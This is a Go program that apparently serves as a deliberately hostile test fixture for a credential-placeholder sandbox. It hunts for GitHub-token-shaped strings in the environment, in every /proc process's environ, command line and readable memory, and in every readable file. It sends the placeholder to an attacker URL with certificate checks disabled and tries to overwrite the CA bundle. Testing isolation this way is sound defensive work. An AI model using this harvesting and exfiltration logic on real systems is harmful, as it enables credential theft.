// Command hostile is a server that wants the credential it was given a
// placeholder for (issue 41's acceptance): it looks for anything shaped
// like a GitHub token in its environment, every /proc entry and the
// memory it can read, and every file it can read; it sends the
// placeholder to the bound host (which reflects the request back), to a
// second allowed host and to a host it controls, and tries to write the
// CA bundle it was given. It prints what it found as one JSON object;
// the test decides.
//
//	hostile NAME BOUND_URL MIRROR_URL ATTACKER_URL
package main

import (
	"bufio"
	"bytes"
	"crypto/tls"
	"encoding/json"
	"fmt"
	"io"
	"io/fs"
	"net/http"
	"os"
	"path/filepath"
	"regexp"
	"strconv"
	"strings"
)

// token is the shape of the value and of its placeholder.
var token = regexp.MustCompile(`ghp_[A-Za-z0-9]{36}`)

type report struct {
	Env    string              `json:"env"`   // the variable's value as the server sees it
	Trust  map[string]string   `json:"trust"` // the CA variables
	Tokens map[string][]string `json:"tokens"`
	HTTP   map[string]string   `json:"http"` // attempt: status or error
	Write  string              `json:"writeCA"`
	Bytes  int64               `json:"scanned"`
}

var r = report{Trust: map[string]string{}, Tokens: map[string][]string{}, HTTP: map[string]string{}}

func found(b []byte, where string) {
	r.Bytes += int64(len(b))
	for _, m := range token.FindAll(b, -1) {
		if w := r.Tokens[string(m)]; len(w) < 16 && !contains(w, where) {
			r.Tokens[string(m)] = append(w, where)
		}
	}
}

func main() {
	name, bound, mirror, attacker := os.Args[1], os.Args[2], os.Args[3], os.Args[4]
	ph := os.Getenv(name)
	r.Env = ph
	for _, v := range []string{"SSL_CERT_FILE", "NODE_EXTRA_CA_CERTS", "REQUESTS_CA_BUNDLE", "CURL_CA_BUNDLE", "GIT_SSL_CAINFO", "DENO_CERT"} {
		r.Trust[v] = os.Getenv(v)
	}
	found([]byte(strings.Join(os.Environ(), "\n")), "environ")

	// Over the network first, so the answers are in memory for the scan.
	verified := &http.Client{} // trusts what SSL_CERT_FILE names, through HTTPS_PROXY
	anyCert := &http.Client{Transport: &http.Transport{Proxy: http.ProxyFromEnvironment, TLSClientConfig: &tls.Config{InsecureSkipVerify: true}}}
	try := func(what string, c *http.Client, method, url string, h http.Header, body string) {
		req, err := http.NewRequest(method, url, strings.NewReader(body))
		if err != nil {
			r.HTTP[what] = err.Error()
			return
		}
		req.Header = h
		resp, err := c.Do(req)
		if err != nil {
			r.HTTP[what] = err.Error()
			return
		}
		b, _ := io.ReadAll(resp.Body)
		resp.Body.Close()
		var hdr bytes.Buffer
		resp.Header.Write(&hdr)
		found(b, what+" body")
		found(hdr.Bytes(), what+" header")
		r.HTTP[what] = strconv.Itoa(resp.StatusCode)
	}
	bearer := http.Header{"Authorization": {"Bearer " + ph}}
	try("bound", verified, "GET", bound, bearer, "")
	try("bound-elsewhere", verified, "POST", bound+"?access_token="+ph, http.Header{"X-Other": {"Bearer " + ph}, "Authorization": {"token " + ph}}, "Bearer "+ph)
	try("mirror", anyCert, "GET", mirror, bearer, "")
	try("attacker", anyCert, "POST", attacker, bearer, "Bearer "+ph)
	if err := os.WriteFile(os.Getenv("SSL_CERT_FILE"), []byte("x"), 0o644); err != nil {
		r.Write = err.Error()
	}

	// /proc: every process's environment, command line and readable memory.
	pids, _ := os.ReadDir("/proc")
	for _, p := range pids {
		if _, err := strconv.Atoi(p.Name()); err != nil {
			continue
		}
		dir := "/proc/" + p.Name()
		for _, f := range []string{"environ", "cmdline"} {
			if b, err := os.ReadFile(dir + "/" + f); err == nil {
				found(b, dir+"/"+f)
			}
		}
		memory(dir)
	}
	// Every file it can read, but /proc, /sys and /dev.
	filepath.WalkDir("/", func(path string, d fs.DirEntry, err error) error {
		if err != nil {
			return nil
		}
		if d.IsDir() && (path == "/proc" || path == "/sys" || path == "/dev") {
			return filepath.SkipDir
		}
		if d.Type().IsRegular() {
			if fi, err := d.Info(); err == nil && fi.Size() <= 64<<20 {
				if b, err := os.ReadFile(path); err == nil {
					found(b, path)
				}
			}
		}
		return nil
	})
	json.NewEncoder(os.Stdout).Encode(r)
}

// memory scans the readable mappings of a process (its own included).
func memory(dir string) {
	maps, err := os.Open(dir + "/maps")
	if err != nil {
		return
	}
	defer maps.Close()
	mem, err := os.Open(dir + "/mem")
	if err != nil {
		return
	}
	defer mem.Close()
	sc := bufio.NewScanner(maps)
	for sc.Scan() {
		f := strings.Fields(sc.Text())
		if len(f) < 2 || f[1][0] != 'r' {
			continue
		}
		var lo, hi uint64
		if _, err := fmt.Sscanf(f[0], "%x-%x", &lo, &hi); err != nil || hi-lo > 256<<20 {
			continue
		}
		b := make([]byte, hi-lo)
		n, _ := mem.ReadAt(b, int64(lo))
		found(b[:n], dir+"/mem")
	}
}

func contains(ss []string, s string) bool {
	for _, x := range ss {
		if x == s {
			return true
		}
	}
	return false
}
